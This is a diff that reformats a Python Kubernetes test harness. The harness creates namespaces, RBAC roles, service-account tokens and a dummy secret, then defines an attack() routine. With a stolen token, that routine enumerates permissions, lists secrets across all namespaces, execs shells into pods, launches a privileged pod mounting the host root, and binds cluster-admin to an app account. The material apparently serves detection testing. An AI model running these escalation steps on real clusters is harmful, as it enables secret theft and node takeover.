@@ -19,9 +19,11 @@ from kubernetes.client.rest import ApiException
 from tests.kube.apiserver import ADMIN_TOKEN
 
 KUBECTL = "kubectl/v1.20.2 (linux/amd64) kubernetes/faecb19"
-SA_UA = {"app": "app/v1.4.0 (linux/amd64) kubernetes/$Format",
-         "deployer": "argocd-application-controller/v2.0.0 (linux/amd64) kubernetes/$Format",
-         "monitor": "Prometheus/2.26.0"}
+SA_UA = {
+    "app": "app/v1.4.0 (linux/amd64) kubernetes/$Format",
+    "deployer": "argocd-application-controller/v2.0.0 (linux/amd64) kubernetes/$Format",
+    "monitor": "Prometheus/2.26.0",
+}
 NAMESPACES = ("team-a", "team-b", "kube-system", "payments")
 
 
@@ -52,45 +54,99 @@ def setup(url: str) -> dict[str, str]:
     for ns in NAMESPACES:
         _quiet(core.create_namespace, client.V1Namespace(metadata=client.V1ObjectMeta(name=ns)))
     rules = {
-        "developer": [client.V1PolicyRule(api_groups=["", "apps"], resources=["pods", "pods/log", "configmaps",
-                                                                             "deployments", "services", "events"],
-                                          verbs=["get", "list", "watch"])],
-        "app": [client.V1PolicyRule(api_groups=[""], resources=["configmaps", "secrets"], verbs=["get", "list"]),
-                client.V1PolicyRule(api_groups=[""], resources=["pods"], verbs=["get", "list", "create"])],
-        "deployer": [client.V1PolicyRule(api_groups=["", "apps"], resources=["configmaps", "deployments", "services"],
-                                         verbs=["get", "list", "create", "update", "patch"])],
+        "developer": [
+            client.V1PolicyRule(
+                api_groups=["", "apps"],
+                resources=["pods", "pods/log", "configmaps", "deployments", "services", "events"],
+                verbs=["get", "list", "watch"],
+            )
+        ],
+        "app": [
+            client.V1PolicyRule(api_groups=[""], resources=["configmaps", "secrets"], verbs=["get", "list"]),
+            client.V1PolicyRule(api_groups=[""], resources=["pods"], verbs=["get", "list", "create"]),
+        ],
+        "deployer": [
+            client.V1PolicyRule(
+                api_groups=["", "apps"],
+                resources=["configmaps", "deployments", "services"],
+                verbs=["get", "list", "create", "update", "patch"],
+            )
+        ],
     }
-    bindings = [("team-a", "developer", "User", "alice"), ("team-b", "developer", "User", "bob"),
-                ("team-a", "app", "ServiceAccount", "app"), ("team-b", "deployer", "ServiceAccount", "deployer")]
+    bindings = [
+        ("team-a", "developer", "User", "alice"),
+        ("team-b", "developer", "User", "bob"),
+        ("team-a", "app", "ServiceAccount", "app"),
+        ("team-b", "deployer", "ServiceAccount", "deployer"),
+    ]
     for ns, role, kind, name in bindings:
-        _quiet(rbac.create_namespaced_role, ns, client.V1Role(metadata=client.V1ObjectMeta(name=role),
-                                                              rules=rules[role]))
-        subject = client.RbacV1Subject(kind=kind, name=name, namespace=ns if kind == "ServiceAccount" else None,
-                                       api_group="rbac.authorization.k8s.io" if kind == "User" else None)
-        _quiet(rbac.create_namespaced_role_binding, ns, client.V1RoleBinding(
-            metadata=client.V1ObjectMeta(name=f"{role}-{name}"), subjects=[subject],
-            role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="Role", name=role)))
-    _quiet(rbac.create_cluster_role, client.V1ClusterRole(metadata=client.V1ObjectMeta(name="pod-reader"), rules=[
-        client.V1PolicyRule(api_groups=[""], resources=["pods", "nodes", "services"], verbs=["get", "list", "watch"])]))
-    _quiet(rbac.create_cluster_role_binding, client.V1ClusterRoleBinding(
-        metadata=client.V1ObjectMeta(name="monitor-pod-reader"),
-        subjects=[client.RbacV1Subject(kind="ServiceAccount", name="monitor", namespace="kube-system")],
-        role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="pod-reader")))
+        _quiet(
+            rbac.create_namespaced_role, ns, client.V1Role(metadata=client.V1ObjectMeta(name=role), rules=rules[role])
+        )
+        subject = client.RbacV1Subject(
+            kind=kind,
+            name=name,
+            namespace=ns if kind == "ServiceAccount" else None,
+            api_group="rbac.authorization.k8s.io" if kind == "User" else None,
+        )
+        _quiet(
+            rbac.create_namespaced_role_binding,
+            ns,
+            client.V1RoleBinding(
+                metadata=client.V1ObjectMeta(name=f"{role}-{name}"),
+                subjects=[subject],
+                role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="Role", name=role),
+            ),
+        )
+    _quiet(
+        rbac.create_cluster_role,
+        client.V1ClusterRole(
+            metadata=client.V1ObjectMeta(name="pod-reader"),
+            rules=[
+                client.V1PolicyRule(
+                    api_groups=[""], resources=["pods", "nodes", "services"], verbs=["get", "list", "watch"]
+                )
+            ],
+        ),
+    )
+    _quiet(
+        rbac.create_cluster_role_binding,
+        client.V1ClusterRoleBinding(
+            metadata=client.V1ObjectMeta(name="monitor-pod-reader"),
+            subjects=[client.RbacV1Subject(kind="ServiceAccount", name="monitor", namespace="kube-system")],
+            role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="pod-reader"),
+        ),
+    )
     tokens = {}
     for name, ns in (("app", "team-a"), ("deployer", "team-b"), ("monitor", "kube-system")):
-        _quiet(core.create_namespaced_service_account, ns,
-               client.V1ServiceAccount(metadata=client.V1ObjectMeta(name=name)))
-        request = client.AuthenticationV1TokenRequest(spec=client.V1TokenRequestSpec(
-            audiences=["https://kubernetes.default.svc.cluster.local"], expiration_seconds=86400))
+        _quiet(
+            core.create_namespaced_service_account, ns, client.V1ServiceAccount(metadata=client.V1ObjectMeta(name=name))
+        )
+        request = client.AuthenticationV1TokenRequest(
+            spec=client.V1TokenRequestSpec(
+                audiences=["https://kubernetes.default.svc.cluster.local"], expiration_seconds=86400
+            )
+        )
         tokens[name] = core.create_namespaced_service_account_token(name, ns, request).status.token
     for ns, name in (("team-a", "app-config"), ("team-b", "deploy-config")):
-        _quiet(core.create_namespaced_config_map, ns, client.V1ConfigMap(
-            metadata=client.V1ObjectMeta(name=name), data={"LOG_LEVEL": "info"}))
-    _quiet(core.create_namespaced_secret, "team-a", client.V1Secret(
-        metadata=client.V1ObjectMeta(name="app-db"), string_data={"password": "not-a-real-password"}))
-    _quiet(core.create_namespaced_pod, "team-a", client.V1Pod(
-        metadata=client.V1ObjectMeta(name="app-0", labels={"app": "app"}),
-        spec=client.V1PodSpec(containers=[client.V1Container(name="app", image="registry.local/app:1.4.0")])))
+        _quiet(
+            core.create_namespaced_config_map,
+            ns,
+            client.V1ConfigMap(metadata=client.V1ObjectMeta(name=name), data={"LOG_LEVEL": "info"}),
+        )
+    _quiet(
+        core.create_namespaced_secret,
+        "team-a",
+        client.V1Secret(metadata=client.V1ObjectMeta(name="app-db"), string_data={"password": "not-a-real-password"}),
+    )
+    _quiet(
+        core.create_namespaced_pod,
+        "team-a",
+        client.V1Pod(
+            metadata=client.V1ObjectMeta(name="app-0", labels={"app": "app"}),
+            spec=client.V1PodSpec(containers=[client.V1Container(name="app", image="registry.local/app:1.4.0")]),
+        ),
+    )
     return tokens
 
 
@@ -134,8 +190,9 @@ def attack(url: str, tokens: dict[str, str]) -> None:
     core, rbac = client.CoreV1Api(intruder), client.RbacAuthorizationV1Api(intruder)
     authz = client.AuthorizationV1Api(intruder)
     for ns in NAMESPACES:
-        authz.create_self_subject_rules_review(client.V1SelfSubjectRulesReview(
-            spec=client.V1SelfSubjectRulesReviewSpec(namespace=ns)))
+        authz.create_self_subject_rules_review(
+            client.V1SelfSubjectRulesReview(spec=client.V1SelfSubjectRulesReviewSpec(namespace=ns))
+        )
     for ns in NAMESPACES:
         _quiet(core.list_namespaced_secret, ns)
     _quiet(core.list_secret_for_all_namespaces)
@@ -143,16 +200,30 @@ def attack(url: str, tokens: dict[str, str]) -> None:
         _quiet(core.connect_post_namespaced_pod_exec, pod, ns, command="sh", stdin=False, stdout=True, tty=False)
     privileged = client.V1Pod(
         metadata=client.V1ObjectMeta(name="debug-node"),
-        spec=client.V1PodSpec(host_pid=True, host_network=True, containers=[client.V1Container(
-            name="shell", image="alpine:3.13", command=["sleep", "3600"],
-            security_context=client.V1SecurityContext(privileged=True),
-            volume_mounts=[client.V1VolumeMount(name="host", mount_path="/host")])],
-            volumes=[client.V1Volume(name="host", host_path=client.V1HostPathVolumeSource(path="/"))]))
+        spec=client.V1PodSpec(
+            host_pid=True,
+            host_network=True,
+            containers=[
+                client.V1Container(
+                    name="shell",
+                    image="alpine:3.13",
+                    command=["sleep", "3600"],
+                    security_context=client.V1SecurityContext(privileged=True),
+                    volume_mounts=[client.V1VolumeMount(name="host", mount_path="/host")],
+                )
+            ],
+            volumes=[client.V1Volume(name="host", host_path=client.V1HostPathVolumeSource(path="/"))],
+        ),
+    )
     _quiet(core.create_namespaced_pod, "team-a", privileged)
-    _quiet(rbac.create_cluster_role_binding, client.V1ClusterRoleBinding(
-        metadata=client.V1ObjectMeta(name="app-admin"),
-        subjects=[client.RbacV1Subject(kind="ServiceAccount", name="app", namespace="team-a")],
-        role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="cluster-admin")))
+    _quiet(
+        rbac.create_cluster_role_binding,
+        client.V1ClusterRoleBinding(
+            metadata=client.V1ObjectMeta(name="app-admin"),
+            subjects=[client.RbacV1Subject(kind="ServiceAccount", name="app", namespace="team-a")],
+            role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="cluster-admin"),
+        ),
+    )
 
 
 def drive(url: str, rounds: int) -> list[float]:
